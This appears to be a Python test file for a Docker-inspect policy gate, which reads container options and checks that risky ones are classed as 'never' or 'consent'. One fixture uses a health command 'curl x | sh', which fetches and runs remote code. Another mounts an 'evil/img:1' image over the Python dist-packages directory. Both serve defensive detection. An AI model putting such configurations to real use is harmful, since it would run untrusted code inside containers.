"""docker inspect read as options (runner/hosts/docker_view.py): the health check's command is the recipe's only when
it differs from the image's own (the real engine: the corpus case "health command" in tests/test_inspect_gate.py)."""

from __future__ import annotations

from catalogue.policy.check import check_options
from runner.hosts.docker_view import beyond, read_view


def _inspected(test: list[str] | None) -> dict:
    config = {"Image": "img:1", "Healthcheck": {"Test": test} if test is not None else None}
    return {"HostConfig": {"LogConfig": {"Type": "json-file"}}, "Config": config, "Path": "vllm", "Args": []}


def test_a_health_command_other_than_the_images_is_judged_never():
    image_own = read_view(_inspected(["CMD", "true"]), resolve=False)
    replaced = beyond(read_view(_inspected(["CMD-SHELL", "curl x | sh"]), resolve=False), image_own)
    assert ["--health-cmd", "CMD-SHELL curl x | sh"] in replaced.options
    words = [w for group in replaced.options for w in group]
    assert [(f.cls, f.option) for f in check_options(words, {})] == [("never", "--health-cmd")]


def test_the_images_own_health_check_and_none_are_not_the_recipes():
    image_own = read_view(_inspected(["CMD", "true"]), resolve=False)
    same = beyond(read_view(_inspected(["CMD", "true"]), resolve=False), image_own)
    off = beyond(read_view(_inspected(["NONE"]), resolve=False), read_view(_inspected(None), resolve=False))
    for view in (same, off):
        assert not [g for g in view.options if g[0] == "--health-cmd"]


def test_a_named_volume_is_shown_by_its_name_and_an_anonymous_one_not():
    data = _inspected(None)
    data["Mounts"] = [
        {"Type": "volume", "Name": "open-webui", "Destination": "/x", "Driver": "local"},
        {"Type": "volume", "Name": "ab" * 32, "Destination": "/y", "Driver": "local"},
    ]
    by_mount = read_view(data, resolve=False)  # made by --mount: not in HostConfig.Binds
    assert [g for g in by_mount.options if g[0] in ("--volume", "--mount")] == [
        ["--mount", "type=volume,source=open-webui,target=/x"]
    ]
    data["HostConfig"]["Binds"] = ["open-webui:/x"]
    view = read_view(data, resolve=False)
    assert [g for g in view.options if g[0] in ("--volume", "--mount")] == [["--volume", "open-webui:/x"]]
    found = check_options(["--volume", "open-webui:/x"], {})
    assert [(f.cls, f.option) for f in found] == [("consent", "--volume open-webui")]


def test_an_image_mount_is_shown_by_its_image_and_an_unknown_type_by_its_type():
    """docker 28 keeps `--mount type=image,...` in HostConfig.Mounts (Type "image", Source the image) and lists it in
    Mounts[] with no host source (Docker Engine API 1.48, HostConfig.Mounts; this machine's engine is older and
    refuses the type, so the shape is written here as the API documents it)."""
    data = _inspected(None)
    data["HostConfig"]["Mounts"] = [
        {"Type": "image", "Source": "evil/img:1", "Target": "/usr/lib/python3/dist-packages", "ReadOnly": True},
        {"Type": "cluster", "Source": "csi-vol", "Target": "/c"},
        {"Type": "tmpfs", "Target": "/t"},
    ]
    data["Mounts"] = [
        {"Type": "image", "Source": "", "Destination": "/usr/lib/python3/dist-packages", "RW": False},
        {"Type": "tmpfs", "Source": "", "Destination": "/t", "RW": True},
    ]
    view = read_view(data, resolve=False)
    groups = [g for g in view.options if g[0] == "--mount"]
    assert groups == [
        ["--mount", "type=image,source=evil/img:1,target=/usr/lib/python3/dist-packages"],
        ["--mount", "type=cluster,source=csi-vol,target=/c"],
    ]
    words = [w for group in groups for w in group]
    assert [(f.cls, f.option) for f in check_options(words, {})] == [
        ("consent", "--mount image=evil/img:1"),
        ("never", "--mount type=cluster"),
    ]


def test_search_domains_and_resolver_options_are_read_and_need_consent():
    data = _inspected(None)
    data["HostConfig"].update(DnsSearch=["example.org"], DnsOptions=["ndots:15"])
    view = beyond(read_view(data, resolve=False), read_view(_inspected(None), resolve=False))
    assert ["--dns-search", "example.org"] in view.options
    assert ["--dns-option", "ndots:15"] in view.options
    words = [w for group in view.options for w in group]
    found = [(f.cls, f.option) for f in check_options(words, {})]
    assert found == [("consent", "--dns-search"), ("consent", "--dns-option")]
